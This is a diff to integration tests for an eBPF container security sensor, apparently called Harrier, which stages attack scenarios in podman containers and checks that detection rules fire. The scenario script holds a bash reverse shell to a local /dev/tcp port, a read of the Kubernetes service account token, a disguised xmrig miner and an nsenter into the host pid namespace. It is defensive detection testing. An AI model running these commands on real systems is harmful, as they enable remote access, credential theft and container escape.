@@ -224,8 +224,8 @@ fn ebpf_sees_a_shell_file_read_and_connect_in_a_podman_container() {
     let cid = pm.run(
         &dir,
         &name,
-        // The container lives on a second, so the sensor asks podman about it before `--rm`.
-        "cat /etc/os-release > /dev/null; (echo x > /dev/tcp/127.0.0.1/3333) 2>/dev/null; sleep 1; exit 0",
+        // The container lives on, so the sensor asks podman about it before `--rm`.
+        "cat /etc/os-release > /dev/null; (echo x > /dev/tcp/127.0.0.1/3333) 2>/dev/null; sleep 3; exit 0",
     );
 
     let shell = sensor.wait_for("exec of bash in the container", |v| {
@@ -407,14 +407,20 @@ cat /var/run/secrets/kubernetes.io/serviceaccount/token > /dev/null
 # Crypto mining: a program named xmrig talking to a stratum port.
 cp /bin/bash /tmp/xmrig
 /tmp/xmrig /scenario/stratum.sh
-# A namespace tool (it fails: the container lacks CAP_SYS_ADMIN).
-nsenter --target 1 --uts true || true
-# A reverse shell.
+# A namespace tool, in a container given CAP_SYS_ADMIN (entering a pid namespace, nsenter
+# forks and waits for its command).
+nsenter --target 1 --pid --uts -- sleep 0.3
+# A reverse shell (the listener holds the connection half a second).
 bash -c 'bash -i >& /dev/tcp/127.0.0.1/4444 0>&1; sleep 0.3'
-# A package manager.
-apt-get install -y nosuchpackage > /dev/null 2>&1 || true
+# A package manager, waiting a moment for the dpkg lock another install holds (so that it
+# lives long enough for the proc connector, which gives a pid only, to read its command line).
+python3 -c 'import fcntl, time; f = open("/var/lib/dpkg/lock-frontend", "w"); fcntl.lockf(f, fcntl.LOCK_EX); time.sleep(0.6)' &
+sleep 0.2
+apt-get -o DPkg::Lock::Timeout=5 install -y nosuchpackage > /dev/null 2>&1 || true
 wait
-sleep 1
+# Live on, so that the runtime still knows the container when a sensor behind on a loaded
+# machine asks about it.
+sleep 3
 "#;
 
 const STRATUM: &str = r#"exec 3<>/dev/tcp/127.0.0.1/3333
@@ -424,7 +430,7 @@ sleep 0.3
 "#;
 
 const LISTEN: &str = r#"
-import select, socket
+import select, socket, time
 socks = []
 for port in (3333, 4444):
     s = socket.socket()
@@ -438,6 +444,7 @@ while socks:
         break
     for s in ready:
         conn, _ = s.accept()
+        time.sleep(0.5)
         conn.close()
         s.close()
         socks.remove(s)
@@ -450,7 +457,7 @@ for _ in range(5):
         f.read()
     subprocess.run(["cat", "/etc/hostname"], stdout=subprocess.DEVNULL)
     subprocess.run(["sleep", "0.1"])
-time.sleep(1)
+time.sleep(3)
 "#;
 
 const SHELL_RULE: &str = r#"
@@ -471,6 +478,7 @@ const EXPECTED: &[(&str, bool)] = &[
     ),
     ("Harrier Crypto Miner Executed", true),
     ("Harrier Namespace Tool Run in Container", true),
+    ("Harrier Namespace Entered from Container", false),
     ("Harrier Reverse Shell Command Executed", true),
     ("Harrier Package Manager Run in Container", true),
 ];
@@ -561,7 +569,7 @@ fn attack_and_benign(dir: &Dir, pm: &Podman, collector: &str, signal: &str) -> O
     let attack = pm.run_with(
         dir,
         &format!("harrier-attack-{tag}"),
-        &["-v", &volume],
+        &["-v", &volume, "--cap-add", "SYS_ADMIN"],
         &["/bin/bash", "/scenario/attack.sh"],
     );
     let benign = pm.run_with(
